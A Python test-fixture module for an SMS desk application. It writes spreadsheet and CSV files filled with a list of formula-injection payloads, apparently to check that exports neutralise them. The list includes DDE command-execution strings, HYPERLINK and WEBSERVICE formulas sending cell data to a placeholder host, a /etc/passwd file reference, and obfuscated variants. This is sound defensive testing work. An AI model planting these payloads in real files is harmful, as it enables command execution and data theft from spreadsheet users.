"""What a spreadsheet would calculate, and every file that we write, full of it."""

import csv
from collections.abc import Iterator
from dataclasses import asdict
from datetime import UTC, datetime
from pathlib import Path

import openpyxl

from smsdesk.core.models import Draft, DraftSource, HistoryFilter, Order, Purpose, Rendered, Skip
from smsdesk.core.sms_text import Encoding
from smsdesk.paths import own_command
from smsdesk.services.desk import Desk
from smsdesk.services.imports import ImportOptions
from smsdesk.store.accounts import AccountRepository
from smsdesk.store.campaigns import CampaignRepository, NewCampaign
from smsdesk.store.damage import NAME
from smsdesk.store.db import Database
from smsdesk.store.drafts import draft_text
from smsdesk.texts import Texts

PAYLOADS = (
    # signs that begin one, alone and as OWASP lists them
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=", "+", "-2+3", "@A1", "=A1", "=-1", "==1", "+-1",
    # what does harm: programs, the network, other files
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    '=HYPERLINK("http://example.invalid/?x="&A1,"กด")', '=HYPERLINK("http://example.invalid";"กด")',
    '=WEBSERVICE("http://example.invalid/?"&A1)', '=IMPORTXML("http://example.invalid","//a")',
    "='file:///etc/passwd'#$passwd.A1", '=IMAGE("http://example.invalid/x.png")',
    "=INDIRECT(\"A\"&1)", "=1+1\";=1+1;\"", '="a"&"b"', "={1,2}", "=TRUE", "=A1:A9 B1",
    # as other countries write them, and with separators that would part a cell
    "=SUM(1;2)", "=SUMME(1;2)", "ก;=1+1", "ก;@SUM(1)", "ก\t=1+1", "ก\n=1+1",
    "ก\r\n+cmd|' /C calc'!A0",
    'ก";=cmd|\' /C calc\'!A0;"', "ก;\"=1+1\"", "ก; =1+1", "ก,=1+1", 'ก","=1+1',
    # letters before the sign that nobody sees, or that a reader strips
    " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u200f=1+1",
    "\u2060@SUM(1)", "\x00=1+1", "\x1b=1+1", "\u202e=1+1",
    "\"=1+1", "'=1+1", "\"\"=1+1", " \" =1+1",
    # signs of other widths
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "\u22121+1",
    # what is no formula and must stay as it is read
    "+66812345678", "-5", "- ข้อแรก",
)  # fmt: skip
SHEET = "=1+1"
THAI = Texts("th")
NOW = datetime(2026, 11, 20, 3, tzinfo=UTC)
_FIRST_ROW = 2


def plain(payload: str) -> str:
    """Return a payload as a workbook can hold it: XML has no control characters."""
    return "".join(letter for letter in payload if letter >= " " or letter in "\t\n")


def write_all(folder: Path) -> Iterator[Path]:
    """Write every kind of file with every payload in every place, and give their paths."""
    people = folder / "=1+1 คน.xlsx"
    _make_people(people)
    as_csv = folder / "@คน.csv"
    _make_csv(as_csv)
    with Desk(folder / "data", command=own_command()) as desk:
        campaigns = [_freeze(folder / "data" / NAME, source) for source in (people, as_csv)]
        for suffix in (".csv", ".xlsx"):
            path = folder / f"=messages{suffix}"
            desk.exporting.messages(HistoryFilter(), path, THAI)
            yield path
        desk.imports.import_file(people, "=1+1", _OPTIONS)
        found = desk.imports.look(as_csv, _OPTIONS)
        for suffix in (".csv", ".xlsx"):
            path = folder / f"@contacts{suffix}"
            desk.contacts.export("=1+1", path)
            yield path
            path = folder / f"+refused{suffix}"
            desk.imports.write_problems(path, ["=row", "+value", "@name", "-reason"], found)
            yield path
        for campaign, suffix in zip(campaigns, (".xlsx", ".csv"), strict=True):
            path = folder / f"-back{suffix}"
            desk.writing_back.write(campaign, path, THAI, failed_first=True)
            yield path


_OPTIONS = ImportOptions(
    header_row=1, phone_column="phone", name_column="name", encoding="utf-8", delimiter=","
)


def _numbers() -> list[str]:
    return [f"+668{10_000_000 + at}" for at in range(len(PAYLOADS))]


def _make_people(path: Path) -> None:
    """Make a clerk's workbook: payloads as texts in cells, headers and the name of the sheet."""
    book = openpyxl.Workbook()
    page = book.active
    page.title = SHEET
    header = ["phone", "name", "again", *(f"{plain(one)} {at}" for at, one in enumerate(PAYLOADS))]
    lines = [
        [f"0{number[3:]}", plain(payload), plain(payload)]
        for number, payload in zip(_numbers(), PAYLOADS, strict=True)
    ]
    for row, line in enumerate([header, *lines], start=1):
        for column, value in enumerate(line, start=1):
            cell = page.cell(row, column, value)
            cell.data_type = "s"
    book.save(path)


def _make_csv(path: Path) -> None:
    """Make a CSV file whose numbers are payloads: all are refused, and named in a file."""
    with path.open("w", encoding="utf-8", newline="") as file:
        out = csv.writer(file)
        out.writerow(["phone", "name", *PAYLOADS[:20]])
        for payload in PAYLOADS:
            clean = payload.replace("\0", "")
            out.writerow([clean, clean, *[clean] * 20])


def _freeze(database: Path, source: Path) -> int:
    """Write a campaign of the people of a file, all of whose words are payloads."""
    db = Database(database)
    account = AccountRepository(db).add(
        name=f"=1+1 {source.suffix}", service="smspoint", base_url="", practice=True,
        settings={}, now=NOW,
    )  # fmt: skip
    is_book = source.suffix == ".xlsx"
    rows = range(_FIRST_ROW, _FIRST_ROW + len(PAYLOADS))
    messages = [
        Rendered(number, payload, payload, Encoding.UCS2, 1, 1, row)
        for number, payload, row in zip(_numbers(), PAYLOADS, rows, strict=True)
    ]
    skips = [
        Skip(payload.replace("\0", ""), "invalid_number", row, payload)
        for payload, row in zip(PAYLOADS, rows, strict=True)
    ]
    draft = Draft(
        account.name, "x",
        sources=(DraftSource("file", source.name, str(source), asdict(_OPTIONS)),),
    )  # fmt: skip
    campaign = CampaignRepository(db).freeze(
        NewCampaign(
            account=account, title="=HYPERLINK(\"http://example.invalid\")", tag="@SUM(1)",
            order=Order("+1+1"), purpose=Purpose.TRANSACTIONAL,
            messages=messages if is_book else [], skips=[] if is_book else skips, now=NOW,
            draft=draft_text(draft, {}),
        )
    )  # fmt: skip
    with db.transaction() as con:
        con.execute("UPDATE message SET reference = text, delivery_word = text")
    db.close_all()
    return campaign
